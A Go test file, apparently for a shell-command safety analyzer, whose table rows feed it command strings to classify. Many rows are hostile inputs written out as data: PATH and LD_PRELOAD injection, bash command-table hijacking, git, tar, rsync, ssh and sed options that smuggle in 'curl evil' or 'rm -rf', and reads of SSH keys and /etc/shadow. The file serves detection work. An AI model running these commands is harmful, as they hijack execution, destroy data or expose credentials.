package shell

import (
	"os"
	"path/filepath"
	"slices"
	"testing"
)

// Rows for the classes of issue 12 (items 4, 6, 9) and issue 18 (item 6):
// injection variables set in the shell, bash callbacks and look-up tables,
// programs run through git's and find's own options, option text that is
// no path.

func TestAnalyzeInjectionVars(t *testing.T) { runRows(t, newFixture(t), injectionRows) }

var injectionRows = []row{
	// Set in the shell, not as a prefix: every later unit is floored.
	{cmd: `PATH=./e; ls`, units: us(u(`PATH=./e`, CtxAssignment, ind), u(`ls`, ind))},
	{cmd: `ls; PATH=./e`, units: us(u(`ls`), u(`PATH=./e`, CtxAssignment, ind))},
	{cmd: `for PATH in ./e; do ls; done`, units: us(u(`ls`, CtxLoop, ind)), paths: ps(p(`./e`, `./e`))},
	{cmd: `select PATH in ./e; do ls; done`, units: us(u(`ls`, CtxLoop, ind)), paths: ps(p(`./e`, `./e`))},
	{cmd: `read PATH <<< ./e; ls`, units: us(u(`read PATH`, ind), u(`ls`, ind))},
	{cmd: `read -r -a PATH; ls`, units: us(u(`read -r -a PATH`, ind), u(`ls`, ind))},
	{cmd: `read -r line; ls`, units: us(u(`read -r line`), u(`ls`))},
	{cmd: `read -r "$v"; ls`, units: us(u(`read -r $v`, ind), u(`ls`, ind))},
	{cmd: `printf -v PATH ./e; ls`, units: us(u(`printf -v PATH ./e`, ind), u(`ls`, ind)), paths: ps(p(`./e`, `./e`))},
	{cmd: `printf -vPATH ./e; ls`, units: us(u(`printf -vPATH ./e`, ind), u(`ls`, ind)), paths: ps(p(`./e`, `./e`))},
	{cmd: `printf '%s\n' "$x"; ls`, units: us(u(`printf %s\n $x`), u(`ls`))},
	{cmd: `mapfile -t PATH < f; ls`, units: us(u(`mapfile -t PATH`, ind), u(`ls`, ind)), paths: ps(p(`f`, `f`, redir))},
	{cmd: `getopts a: PATH; ls`, units: us(u(`getopts a: PATH`, ind), u(`ls`, ind))},
	{cmd: `declare PATH=./e; ls`, units: us(u(`declare PATH=./e`, CtxDeclaration, ind), u(`ls`, ind))},
	{cmd: `typeset -x LD_PRELOAD=./e.so; ls`, units: us(u(`typeset -x LD_PRELOAD=./e.so`, CtxDeclaration, ind), u(`ls`, ind))},
	{cmd: `f() { local PATH=./e; ls; }`, units: us(u(`local PATH=./e`, CtxDeclaration, ind), u(`ls`, CtxFunction, ind))},
	{cmd: `export PATH; ls`, units: us(u(`export PATH`, CtxDeclaration), u(`ls`))},
	{cmd: `declare -n r=PATH; r=./e; ls`, units: us(u(`declare -n r=PATH`, CtxDeclaration, ind), u(`r=./e`, CtxAssignment, ind), u(`ls`, ind))},
	{cmd: `builtin declare PATH=./e; ls`, units: us(u(`builtin declare PATH=./e`, ind), u(`declare PATH=./e`, CtxWrapped, ind), u(`ls`, ind)), paths: ps(p(`./e`, `./e`))},
	{cmd: `(( PATH=1 )); ls`, units: us(u(`(( PATH=1 ))`, CtxArithmetic, ind), u(`ls`, ind))},
	{cmd: `echo $(( HOME++ )); ls`, units: us(u(`echo $(( HOME++ ))`, ind), u(`ls`, ind))},
	{cmd: `(( $x = 1 )); ls`, unparseable: true},
	{cmd: `let "i = $i + 1"; ls`, units: us(u(`let "i = $i + 1"`, CtxArithmetic), u(`ls`))},
	{cmd: `let "n=${#a[@]}"; [[ $n -eq ${m} ]]; ls`, units: us(u(`let "n=${#a[@]}"`, CtxArithmetic), u(`[[ $n -eq ${m} ]]`, CtxTest), u(`ls`))},
	{cmd: `let '++$x'; ls`, units: us(u(`let '++$x'`, CtxArithmetic, ind), u(`ls`, ind))},
	{cmd: `[[ $v=1 -eq 1 ]]; ls`, units: us(u(`[[ $v=1 -eq 1 ]]`, CtxTest, ind), u(`ls`, ind))},
	{cmd: `let '$x = 1'; ls`, units: us(u(`let '$x = 1'`, CtxArithmetic, ind), u(`ls`, ind))},
	{cmd: `(( a[i]++ )); ls`, units: us(u(`(( a[i]++ ))`, CtxArithmetic), u(`ls`))},
	{cmd: `(( n=1 )); ls`, units: us(u(`(( n=1 ))`, CtxArithmetic), u(`ls`))},
	{cmd: `: ${PATH:=./e}; ls`, units: us(u(`: ${PATH:=./e}`, ind), u(`ls`, ind)), paths: ps(p(`${PATH:=./e}`, `./e`), pu(`${PATH:=./e}`))},
	{cmd: `HOME=/tmp/h git log`, units: us(u(`git log`, ind))},
	{cmd: `XDG_CONFIG_HOME=/tmp/c git log`, units: us(u(`git log`, ind))},
	{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=sh git log`, units: us(u(`git log`, ind))},
	{cmd: `export GIT_CONFIG_GLOBAL=/tmp/g; git log`, units: us(u(`export GIT_CONFIG_GLOBAL=/tmp/g`, CtxDeclaration, ind), u(`git log`, ind))},
	{cmd: `bash -c 'PATH=./e; ls'`, units: us(u(`bash -c PATH=./e; ls`, opq), u(`PATH=./e`, CtxAssignment, ind), u(`ls`, CtxPayload, ind))},

	// Issue 18.6: bash's own command table.
	{cmd: `BASH_CMDS[git]=./x; git status`, units: us(u(`BASH_CMDS[git]=./x`, CtxAssignment, ind), u(`git status`, ind))},
	{cmd: `: ${BASH_CMDS[git]:=./x}; git status`, units: us(u(`: ${BASH_CMDS[git]:=./x}`, ind), u(`git status`, ind))},
	{cmd: `declare -A BASH_CMDS=([git]=./x); git status`, units: us(u(`declare -A BASH_CMDS=([git]=./x)`, CtxDeclaration, ind), u(`git status`, ind))},
	{cmd: `(( BASH_CMDS[git]=1 )); git status`, units: us(u(`(( BASH_CMDS[git]=1 ))`, CtxArithmetic, ind), u(`git status`, ind))},
	{cmd: `let 'BASH_CMDS[git]=1'; git status`, units: us(u(`let 'BASH_CMDS[git]=1'`, CtxArithmetic, ind), u(`git status`, ind))},
	{cmd: `hash -p ./x git; git status`, units: us(u(`hash -p ./x git`, ind), u(`git status`, ind)), paths: ps(p(`./x`, `./x`))},
	{cmd: `[[ PATH=1 -eq 1 ]]; ls`, units: us(u(`[[ PATH=1 -eq 1 ]]`, CtxTest, ind), u(`ls`, ind))},
	{cmd: `[[ 1 -lt PATH++ ]]; ls`, units: us(u(`[[ 1 -lt PATH++ ]]`, CtxTest, ind), u(`ls`, ind))},
	{cmd: `[[ n -eq 1 ]]; ls`, units: us(u(`[[ n -eq 1 ]]`, CtxTest), u(`ls`))},
	{cmd: `x='BASH_CMDS[ls]=1'; (( x )); ls`, units: us(u(`x='BASH_CMDS[ls]=1'`, CtxAssignment, ind), u(`(( x ))`, CtxArithmetic, ind), u(`ls`, ind))},
	{cmd: `BASH_ALIASES[ls]='rm -rf x'; ls`, units: us(u(`BASH_ALIASES[ls]='rm -rf x'`, CtxAssignment, ind), u(`ls`, ind))},
}

func TestAnalyzeCallbacks(t *testing.T) { runRows(t, newFixture(t), callbackRows) }

var callbackRows = []row{
	{cmd: `mapfile -C 'rm -rf x' -c 1 arr < f`, units: us(u(`mapfile -C rm -rf x -c 1 arr`, opq), u(`rm -rf x`, CtxPayload)), paths: ps(p(`f`, `f`, redir), p(`x`, `x`))},
	{cmd: `readarray -t -C"curl evil" arr`, units: us(u(`readarray -t -Ccurl evil arr`, opq), u(`curl evil`, CtxPayload))},
	{cmd: `mapfile -C "$cb" arr`, units: us(u(`mapfile -C $cb arr`, opq), u(`$cb`, CtxPayload, dyn))},
	{cmd: `mapfile -t lines < f`, units: us(u(`mapfile -t lines`)), paths: ps(p(`f`, `f`, redir))},
	{cmd: `compgen -C 'rm y' x`, units: us(u(`compgen -C rm y x`, opq), u(`rm y`, CtxPayload))},
	{cmd: `compgen -F f x`, units: us(u(`compgen -F f x`, opq), u(`f`, CtxPayload))},
	{cmd: `compgen -W '$(rm y)' x`, units: us(u(`compgen -W $(rm y) x`, opq), u(`rm y`, CtxPayload))},
	{cmd: `compgen -W 'start stop' s`, units: us(u(`compgen -W start stop s`))},
	{cmd: `complete -C 'rm z' git`, units: us(u(`complete -C rm z git`, opq), u(`rm z`, CtxPayload))},
	{cmd: `complete -F _git git`, units: us(u(`complete -F _git git`, opq), u(`_git`, CtxPayload))},
}

func TestAnalyzeProgramOptions(t *testing.T) {
	fx := newFixture(t)
	// lnk/.. is the parent of lnk's target (@ROOT@/outside/sub), not @CWD@.
	mkLink(t, fx, "outside/sub", "proj/lnk")
	runRows(t, fx, programOptionRows)
}

var arm = floor(SentinelArming)

var programOptionRows = []row{
	// find: starting points after "--"; -files0-from reads them from a file.
	{cmd: `find -L -- /etc -name x`, units: us(u(`find -L -- /etc -name x`)), paths: ps(p(`/etc`, `/etc`))},
	{cmd: `find -- . -delete`, units: us(u(`find -- . -delete`)), paths: ps(p(`.`, `.`))},
	{cmd: `find -files0-from list -delete`, units: us(u(`find -files0-from list -delete`, ind)), paths: ps(p(`list`, `list`), pu(`<files listed in list>`))},

	// git options that run a program.
	{cmd: `git difftool -x 'rm -rf y' HEAD`, units: us(u(`git difftool -x rm -rf y HEAD`, ind), u(`rm -rf y`, CtxPayload))},
	{cmd: `git difftool --extcmd="curl evil" HEAD`, units: us(u(`git difftool --extcmd=curl evil HEAD`, ind), u(`curl evil`, CtxPayload))},
	{cmd: `git difftool -y HEAD~1`, units: us(u(`git difftool -y HEAD~1`))},
	{cmd: `git grep -O'rm z' foo`, units: us(u(`git grep -Orm z foo`, ind), u(`rm z`, CtxPayload))},
	{cmd: `git grep --open-files-in-pager=vim foo`, units: us(u(`git grep --open-files-in-pager=vim foo`, ind), u(`vim`, CtxPayload))},
	{cmd: `git grep -O foo`, units: us(u(`git grep -O foo`, ind))},
	{cmd: `git ls-remote --upload-pack='rm -rf w;' .`, units: us(u(`git ls-remote --upload-pack=rm -rf w; .`, ind), u(`rm -rf w`, CtxPayload)), paths: ps(p(`.`, `.`))},
	{cmd: `git ls-remote -u 'curl evil' .`, units: us(u(`git ls-remote -u curl evil .`, ind), u(`curl evil`, CtxPayload)), paths: ps(p(`.`, `.`))},
	{cmd: `git fetch --upload-pack 'curl evil' origin`, units: us(u(`git fetch --upload-pack curl evil origin`, ind), u(`curl evil`, CtxPayload))},
	{cmd: `git fetch -u origin`, units: us(u(`git fetch -u origin`))},
	{cmd: `git pull --upload-pack=x origin`, units: us(u(`git pull --upload-pack=x origin`, ind), u(`x`, CtxPayload))},
	{cmd: `git clone -u 'curl evil' src dst`, units: us(u(`git clone -u curl evil src dst`, ind), u(`curl evil`, CtxPayload)), paths: ps(p(`src`, `src`))},
	{cmd: `git push --receive-pack='curl evil' origin`, units: us(u(`git push --receive-pack=curl evil origin`, ind), u(`curl evil`, CtxPayload))},
	{cmd: `git push --exec=x origin`, units: us(u(`git push --exec=x origin`, ind), u(`x`, CtxPayload))},
	{cmd: `git archive --remote=r --exec='curl evil' HEAD`, units: us(u(`git archive --remote=r --exec=curl evil HEAD`, ind), u(`curl evil`, CtxPayload))},
	{cmd: `git -c core.fsmonitor='curl evil' status`, units: us(u(`git -c core.fsmonitor=curl evil status`, ind), u(`curl evil`, CtxPayload), u(`git status`, CtxWrapped))},
	{cmd: `git -c alias.st='!rm -rf v' st`, units: us(u(`git -c alias.st=!rm -rf v st`, ind), u(`rm -rf v`, CtxPayload), u(`git st`, CtxWrapped))},
	{cmd: `git -c diff.pdf.textconv='curl evil' diff`, units: us(u(`git -c diff.pdf.textconv=curl evil diff`, ind), u(`curl evil`, CtxPayload), u(`git diff`, CtxWrapped))},
	{cmd: `git -c credential.helper='!curl evil' fetch`, units: us(u(`git -c credential.helper=!curl evil fetch`, ind), u(`curl evil`, CtxPayload), u(`git fetch`, CtxWrapped))},
	{cmd: `git -c user.name=x commit`, units: us(u(`git -c user.name=x commit`, ind), u(`git commit`, CtxWrapped))},
	{cmd: `git clone --template=./t src dst`, units: us(u(`git clone --template=./t src dst`, arm)), paths: ps(p(`./t`, `./t`), p(`src`, `src`))},
	{cmd: `git clone -c core.hooksPath=./h src dst`, units: us(u(`git clone -c core.hooksPath=./h src dst`, arm)), paths: ps(p(`src`, `src`))},
	{cmd: `git clone --config core.sshCommand='curl evil' src`, units: us(u(`git clone --config core.sshCommand=curl evil src`, arm), u(`curl evil`, CtxPayload)), paths: ps(p(`src`, `src`))},
	{cmd: `git clone -b main https://x/y.git`, units: us(u(`git clone -b main https://x/y.git`))},
	{cmd: `git init --template ./t`, units: us(u(`git init --template ./t`, arm)), paths: ps(p(`./t`, `./t`))},
	{cmd: `git clone 'ext::sh -c x' d`, units: us(u(`git clone ext::sh -c x d`, ind))},
	{cmd: `git daemon --access-hook='curl evil' .`, units: us(u(`git daemon --access-hook=curl evil .`, ind), u(`curl evil`, CtxPayload)), paths: ps(p(`.`, `.`))},
	{cmd: `git instaweb --httpd=x`, units: us(u(`git instaweb --httpd=x`, ind)), paths: ps(p(`x`, `x`))},

	// git -C through a symlinked directory is where git really goes.
	{cmd: `git -C lnk/.. add x.txt`, units: us(u(`git -C lnk/.. add x.txt`), u(`git add x.txt`, CtxWrapped)), paths: ps(p(`lnk/..`, `lnk/..`), p(`x.txt`, `x.txt`, in(`@ROOT@/outside`)))},
	{cmd: `git -C lnk log`, units: us(u(`git -C lnk log`), u(`git log`, CtxWrapped)), paths: ps(p(`lnk`, `lnk`))},
	{cmd: `git -C src status`, units: us(u(`git -C src status`), u(`git status`, CtxWrapped)), paths: ps(p(`src`, `src`))},

	// Arming: git config of a key that runs a program.
	{cmd: `git config core.pager 'curl evil'`, units: us(u(`git config core.pager curl evil`, arm), u(`curl evil`, CtxPayload)), paths: ps(p(`.git/config`, `.git/config`, byDesign))},
	{cmd: `git config --global alias.co '!rm -rf u'`, units: us(u(`git config --global alias.co !rm -rf u`, arm), u(`rm -rf u`, CtxPayload))},
	{cmd: `git config submodule.x.update '!sh -c y'`, units: us(u(`git config submodule.x.update !sh -c y`, arm), u(`!sh -c y`, CtxPayload)), paths: ps(p(`.git/config`, `.git/config`, byDesign))},
	{cmd: `git config --local core.hooksPath .h`, units: us(u(`git config --local core.hooksPath .h`, arm)), paths: ps(p(`.git/config`, `.git/config`, byDesign))},
	{cmd: `git config set core.fsmonitor x`, units: us(u(`git config set core.fsmonitor x`, arm), u(`x`, CtxPayload)), paths: ps(p(`.git/config`, `.git/config`, byDesign))},
	{cmd: `git config --add Core.SSHCommand x`, units: us(u(`git config --add Core.SSHCommand x`, arm), u(`x`, CtxPayload)), paths: ps(p(`.git/config`, `.git/config`, byDesign))},
	{cmd: `git config core.editor vim`, units: us(u(`git config core.editor vim`, arm), u(`vim`, CtxPayload)), paths: ps(p(`.git/config`, `.git/config`, byDesign))},
	{cmd: `git config -f .gitmodules include.path ../x`, units: us(u(`git config -f .gitmodules include.path ../x`, arm)), paths: ps(p(`.gitmodules`, `.gitmodules`))},
	{cmd: `git config --rename-section foo alias`, units: us(u(`git config --rename-section foo alias`, arm)), paths: ps(p(`.git/config`, `.git/config`, byDesign))},
	{cmd: `git config --edit`, units: us(u(`git config --edit`, arm))},
	{cmd: `git config "$K" x`, units: us(u(`git config $K x`, arm)), paths: ps(p(`.git/config`, `.git/config`, byDesign))},
	{cmd: `git -C . config core.pager x`, units: us(u(`git -C . config core.pager x`), u(`git config core.pager x`, CtxWrapped, arm), u(`x`, CtxPayload)), paths: ps(p(`.`, `.`), p(`.git/config`, `.git/config`, byDesign))},
	{cmd: `git config protocol.ext.allow always`, units: us(u(`git config protocol.ext.allow always`, arm)), paths: ps(p(`.git/config`, `.git/config`, byDesign))},
	{cmd: `git config --global url.ext::sh.insteadOf https://`, units: us(u(`git config --global url.ext::sh.insteadOf https://`, arm))},
	{cmd: `git config --global --add safe.directory '*'`, units: us(u(`git config --global --add safe.directory *`, arm))},
	{cmd: `git config protocol.version 2`, units: us(u(`git config protocol.version 2`)), paths: ps(p(`.git/config`, `.git/config`, byDesign))},
	{cmd: `git config user.email a@b.c`, units: us(u(`git config user.email a@b.c`)), paths: ps(p(`.git/config`, `.git/config`, byDesign))},
	{cmd: `git config --get core.pager`, units: us(u(`git config --get core.pager`))},
	{cmd: `git config core.pager`, units: us(u(`git config core.pager`))},
	{cmd: `git config --global --unset core.hooksPath`, units: us(u(`git config --global --unset core.hooksPath`))},
	{cmd: `git config --list`, units: us(u(`git config --list`))},
}

// Issue 12.9: option text that takes no file is no path word; everyday
// commands keep their plain readings.
func TestAnalyzeNoParanoia(t *testing.T) { runRows(t, newFixture(t), noParanoiaRows) }

var noParanoiaRows = []row{
	{cmd: `git log -G'/api/users'`, units: us(u(`git log -G/api/users`))},
	{cmd: `git log -G /api/users`, units: us(u(`git log -G /api/users`))},
	{cmd: `git log -S'/etc/hosts' --oneline`, units: us(u(`git log -S/etc/hosts --oneline`))},
	{cmd: `git log -L'/f/,+5:x'`, units: us(u(`git log -L/f/,+5:x`)), paths: ps(p(`x`, `x`))},
	{cmd: `git log --grep=/api/x --author=a/b`, units: us(u(`git log --grep=/api/x --author=a/b`))},
	{cmd: `git grep -e'src/'`, units: us(u(`git grep -esrc/`))},
	{cmd: `git grep '/api/users' -- src`, units: us(u(`git grep /api/users -- src`)), paths: ps(p(`src`, `src`))},
	{cmd: `git grep -e foo /etc`, units: us(u(`git grep -e foo /etc`)), paths: ps(p(`/etc`, `/etc`))},
	{cmd: `git log --output=/tmp/o -p`, units: us(u(`git log --output=/tmp/o -p`)), paths: ps(p(`/tmp/o`, `/tmp/o`))},
	{cmd: `git log -O/tmp/order`, units: us(u(`git log -O/tmp/order`)), paths: ps(p(`/tmp/order`, `/tmp/order`))},
	{cmd: `git log -- src/a.ts`, units: us(u(`git log -- src/a.ts`)), paths: ps(p(`src/a.ts`, `src/a.ts`))},
	{cmd: `git commit -m '/api: fix' -F /tmp/msg`, units: us(u(`git commit -m /api: fix -F /tmp/msg`)), paths: ps(p(`/tmp/msg`, `/tmp/msg`))},
	{cmd: `git log -G foo`, units: us(u(`git log -G foo`))},
	{cmd: `gcc -Isrc/include src/a.ts`, units: us(u(`gcc -Isrc/include src/a.ts`)), paths: ps(p(`src/a.ts`, `src/a.ts`))},
	{cmd: `gcc -I/usr/include x.c`, units: us(u(`gcc -I/usr/include x.c`)), paths: ps(p(`/usr/include`, `/usr/include`))},
	{cmd: `cc -Wl,-rpath,/opt/lib x.c`, units: us(u(`cc -Wl,-rpath,/opt/lib x.c`)), paths: ps(p(`/opt/lib`, `/opt/lib`))},
	{cmd: `tool -xsrc/`, units: us(u(`tool -xsrc/`))},
	// cd into an existing directory in a ";" list folds.
	{cmd: `cd src; cat a.ts`, units: us(u(`cd src`), u(`cat a.ts`)), paths: ps(p(`src`, `src`), p(`a.ts`, `a.ts`, in(`@CWD@/src`)))},
	{cmd: `cd nosuch; cat README.md`, units: us(u(`cd nosuch`), u(`cat README.md`)), paths: ps(p(`nosuch`, `nosuch`), p(`README.md`, `README.md`, in(`@CWD@/nosuch`)), p(`README.md`, `README.md`))},
}

// mkLink makes fx.root/link point to the directory fx.root/target.
func mkLink(t *testing.T, fx fixture, target, link string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Join(fx.root, target), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(fx.root, target), filepath.Join(fx.root, link)); err != nil {
		t.Fatal(err)
	}
}

// TestPathWrites: a path word is a write unless the command is known to
// only read its arguments (issue 12.5 and 12.9: reading toolgate's own
// files is no change of them; every channel that writes is one).
func TestPathWrites(t *testing.T) {
	fx := newFixture(t)
	rows := []struct {
		cmd  string
		want []string // raw=w for a write, raw=r for a read
	}{
		{`cat .pi/x/config.json`, []string{`.pi/x/config.json=r`}},
		{`grep -n foo .pi/x/config.json`, []string{`.pi/x/config.json=r`}},
		{`git diff .pi/x/config.json`, []string{`.pi/x/config.json=r`}},
		{`git log -- .pi/x/config.json`, []string{`.pi/x/config.json=r`}},
		{`head -5 ~/.bashrc`, []string{`~/.bashrc=r`}},
		{`cat < ~/.bashrc`, []string{`~/.bashrc=r`}},
		{`echo x >> ~/.bashrc`, []string{`~/.bashrc=w`, `x=r`}},
		{`cat a > .git/config`, []string{`.git/config=w`}},
		{`tee -a ~/.profile`, []string{`~/.profile=w`}},
		{`cp hook .git/hooks/pre-commit`, []string{`.git/hooks/pre-commit=w`}},
		{`cp .pi/x/config.json /tmp/backup.json`, []string{`.pi/x/config.json=r`, `/tmp/backup.json=w`}},
		{`cp -r hooks/ .git/hooks`, []string{`.git/hooks=w`, `hooks/=r`, `.git/hooks=w`}}, // the copy below it, and the word
		{`cp -t .git/hooks x README.md`, []string{`.git/hooks/x=w`, `.git/hooks/README.md=w`, `.git/hooks=w`, `x=r`, `README.md=r`}},
		{`cp --target-directory=.git/hooks x`, []string{`.git/hooks/x=w`, `.git/hooks=w`, `x=r`}},
		{`mv x ~/.zshrc`, []string{`x=w`, `~/.zshrc=w`}},
		{`sed -i s/a/b/ .git/config`, []string{`.git/config=w`}},
		{`ln -s ../h .git/hooks/post-checkout`, []string{`../h=w`, `.git/hooks/post-checkout=w`}},
		{`install -m 755 h .git/hooks/pre-push`, []string{`.git/hooks/pre-push=w`}},
		{`sort -o ~/.bashrc x`, []string{`~/.bashrc=w`, `x=w`}},
		{`sort -uo ~/.bashrc x`, []string{`~/.bashrc=w`, `x=w`}},
		{`sort x`, []string{`x=r`}},
		{`git log --output=.git/config -1`, []string{`.git/config=w`}},
		{`git log --output .git/config -1`, []string{`.git/config=w`}},
		{`sudo cat ~/.bashrc`, []string{`~/.bashrc=r`}},
		{`dd if=x of=~/.bashrc`, []string{`x=w`, `~/.bashrc=w`}},
		{`unknown-tool ~/.bashrc`, []string{`~/.bashrc=w`}},
		{`sed -n 1,10p .pi/x/config.json`, []string{`.pi/x/config.json=r`}},
		{`awk '{print $1}' .pi/x/config.json`, []string{`.pi/x/config.json=r`}},
		{`awk '{print > "out"}' .pi/x/config.json`, []string{`out=w`, `.pi/x/config.json=w`}},
		{`awk 'BEGIN{system("id")}' .pi/x/config.json`, []string{`.pi/x/config.json=w`}},
		{`gawk -i inplace '{print}' .pi/x/config.json`, []string{`.pi/x/config.json=w`}},
		{`sed -i s/a/b/ .pi/x/config.json`, []string{`.pi/x/config.json=w`}},
		{`sed -n 'w ~/.bashrc' x`, []string{`~/.bashrc=w`, `x=w`}},
		{`sed 's/a/b/w .git/config' x`, []string{`.git/config=w`, `x=w`}},
		{`less -o ~/.bashrc x`, []string{`~/.bashrc=w`, `x=w`}},
		{`less -R x`, []string{`x=r`}},
		{`git grep -O'$E ~/.bashrc' pat x`, []string{`~/.bashrc=w`, `x=r`}},
		// Index-only git commands read the files they name (issue 23.7).
		{`git add .npmrc`, []string{`.npmrc=r`}},
		{`git stage .envrc`, []string{`.envrc=r`}},
		{`git rm --cached .envrc`, []string{`.envrc=r`}},
		{`git rm .envrc`, []string{`.envrc=w`}},
		{`git restore --staged .npmrc`, []string{`.npmrc=r`}},
		{`git restore -S .npmrc`, []string{`.npmrc=r`}},
		{`git restore --staged --worktree .npmrc`, []string{`.npmrc=w`}},
		{`git restore .npmrc`, []string{`.npmrc=w`}},
		{`git reset -- .npmrc`, []string{`.npmrc=r`}},
		{`git reset --hard -- .npmrc`, []string{`.npmrc=w`}},
		{`git update-index --assume-unchanged .npmrc`, []string{`.npmrc=r`}},
		{`git commit -m 'pin registry' .npmrc`, []string{`.npmrc=r`}},
		{`git add $OPT .npmrc`, []string{`.npmrc=w`}},
		// find reads, unless an action writes, deletes or runs.
		{`find .pi/agents -name '*.md'`, []string{`.pi/agents=r`}},
		{`find .pi/agents -name '*.md' -delete`, []string{`.pi/agents=w`}},
		{`find .git/hooks -type f -fprint .git/hooks/x`, []string{`.git/hooks=w`, `.git/hooks/x=w`}},
	}
	for _, r := range rows {
		t.Run(r.cmd, func(t *testing.T) {
			var got []string
			for _, p := range Analyze(fx.expand(r.cmd), fx.options()).Paths {
				mode := "r"
				if p.Write {
					mode = "w"
				}
				got = append(got, p.Raw+"="+mode)
			}
			if !slices.Equal(got, r.want) {
				t.Errorf("got %q, want %q", got, r.want)
			}
		})
	}
}

// git -C resolves physically, but a directory inside the working
// directory stays spelled from the working directory as given, even when
// that is reached through a symlink.
func TestGitCSymlinkedCwd(t *testing.T) {
	fx := newFixture(t)
	mkLink(t, fx, "proj", "projlink")
	cwd := filepath.Join(fx.root, "projlink")
	a := Analyze(`git -C src add a.ts`, Options{Cwd: cwd, Home: fx.home})
	var got []string
	for _, p := range a.Paths {
		got = append(got, p.Raw+" in "+p.Dir)
	}
	want := []string{"src in " + cwd, "a.ts in " + filepath.Join(cwd, "src")}
	if !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

// A cd that may fail (a directory not everyone may enter) does not fold:
// the later words are also checked where the shell was.
func TestCdFoldNeedsEnterableDir(t *testing.T) {
	fx := newFixture(t)
	locked := filepath.Join(fx.cwd, "locked")
	if err := os.Mkdir(locked, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(locked, 0o700); err != nil {
		t.Fatal(err)
	}
	runRows(t, fx, []row{
		{cmd: `cd locked; cat README.md`, units: us(u(`cd locked`), u(`cat README.md`)),
			paths: ps(p(`locked`, `locked`), p(`README.md`, `README.md`, in(`@CWD@/locked`)), p(`README.md`, `README.md`))},
		{cmd: `cd src; cat README.md`, units: us(u(`cd src`), u(`cat README.md`)),
			paths: ps(p(`src`, `src`))}, // no README.md in src: a bare word that names nothing
	})
}

// Issue 12.4, beyond git and find: other everyday tools whose options run
// a program.
func TestAnalyzeToolProgramOptions(t *testing.T) { runRows(t, newFixture(t), toolProgramRows) }

var toolProgramRows = []row{
	{cmd: `tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf x' src`, units: us(u(`tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=rm -rf x src`, ind), u(`rm -rf x`, CtxPayload)), paths: ps(p(`x`, `x`), p(`src`, `src`))},
	{cmd: `tar xf a.tar --to-command='curl evil'`, units: us(u(`tar xf a.tar --to-command=curl evil`, ind), u(`curl evil`, CtxPayload))},
	{cmd: `tar -I 'curl evil' -cf a.tar src`, units: us(u(`tar -I curl evil -cf a.tar src`, ind), u(`curl evil`, CtxPayload)), paths: ps(p(`src`, `src`))},
	{cmd: `tar -czf a.tgz src`, units: us(u(`tar -czf a.tgz src`)), paths: ps(p(`src`, `src`))},
	{cmd: `rsync -e 'curl evil' src host:dst`, units: us(u(`rsync -e curl evil src host:dst`, ind), u(`curl evil`, CtxPayload)), paths: ps(p(`src`, `src`))},
	{cmd: `rsync -av --rsync-path='curl evil' src host:`, units: us(u(`rsync -av --rsync-path=curl evil src host:`, ind), u(`curl evil`, CtxPayload)), paths: ps(p(`src`, `src`))},
	{cmd: `rsync -av src/ build/`, units: us(u(`rsync -av src/ build/`)), paths: ps(p(`build/`, `build/`, into), p(`src/`, `src/`), p(`build/`, `build/`))},
	{cmd: `ssh -o ProxyCommand='curl evil' host`, units: us(u(`ssh -o ProxyCommand=curl evil host`, ind), u(`curl evil`, CtxPayload))},
	{cmd: `ssh -oLocalCommand=x -o PermitLocalCommand=yes host`, units: us(u(`ssh -oLocalCommand=x -o PermitLocalCommand=yes host`, ind), u(`x`, CtxPayload)), paths: ps(p(`x`, `x`))},
	{cmd: `scp -S 'curl evil' a host:b`, units: us(u(`scp -S curl evil a host:b`, ind), u(`curl evil`, CtxPayload))},
	{cmd: `zip a.zip README.md -T -TT 'curl evil'`, units: us(u(`zip a.zip README.md -T -TT curl evil`, ind), u(`curl evil`, CtxPayload)), paths: ps(p(`README.md`, `README.md`))},
	{cmd: `sort --compress-program='curl evil' x`, units: us(u(`sort --compress-program=curl evil x`, ind), u(`curl evil`, CtxPayload)), paths: ps(p(`x`, `x`))},
	{cmd: `man -P 'curl evil' ls`, units: us(u(`man -P curl evil ls`, ind), u(`curl evil`, CtxPayload))},
	{cmd: `ssh host uptime`, units: us(u(`ssh host uptime`), u(`uptime`, CtxPayload))},
	{cmd: `ssh host cat ~/.ssh/id_rsa`, units: us(u(`ssh host cat ~/.ssh/id_rsa`), u(`cat ~/.ssh/id_rsa`, CtxPayload))},
	{cmd: `sed -n '1e curl evil' x`, units: us(u(`sed -n 1e curl evil x`, fgn), u(`curl evil`, CtxPayload)), paths: ps(p(`x`, `x`))},
	{cmd: `sed 's/.*/id/e' x`, units: us(u(`sed s/.*/id/e x`, fgn)), paths: ps(p(`x`, `x`))},
	{cmd: `sed -e 's/a/b/' -e '2 e id' x`, units: us(u(`sed -e s/a/b/ -e 2 e id x`, fgn), u(`id`, CtxPayload)), paths: ps(p(`x`, `x`))},
	{cmd: `sed 'b end; e id
:end' x`, units: us(u("sed b end; e id\n:end x", fgn), u(`id`, CtxPayload)), paths: ps(p(`x`, `x`))},
	{cmd: `sed '/re/,$ { s/a/b/ge }' x`, units: us(u(`sed /re/,$ { s/a/b/ge } x`, fgn)), paths: ps(p(`x`, `x`))},
	{cmd: `sed "$S" x`, units: us(u(`sed $S x`, fgn)), paths: ps(p(`x`, `x`))},
	{cmd: `sed -i 's/foo/bar/g' x`, units: us(u(`sed -i s/foo/bar/g x`)), paths: ps(p(`x`, `x`))},
	{cmd: `sed -n '/^export/p;$d' x`, units: us(u(`sed -n /^export/p;$d x`)), paths: ps(p(`x`, `x`))},
	{cmd: `sed '1a hello; e x' x`, units: us(u(`sed 1a hello; e x x`)), paths: ps(p(`x`, `x`))},
	{cmd: `sed 'y/abc/xyz/;s|/a|/b|' x`, units: us(u(`sed y/abc/xyz/;s|/a|/b| x`)), paths: ps(p(`x`, `x`))},
	{cmd: "sed 's/a/b/w out\n1e id' x", units: us(u("sed s/a/b/w out\n1e id x", fgn), u(`id`, CtxPayload)), paths: ps(p(`out`, `out`), p(`x`, `x`))},
	{cmd: `sed 'r /etc/shadow' x`, units: us(u(`sed r /etc/shadow x`)), paths: ps(p(`/etc/shadow`, `/etc/shadow`), p(`x`, `x`))},
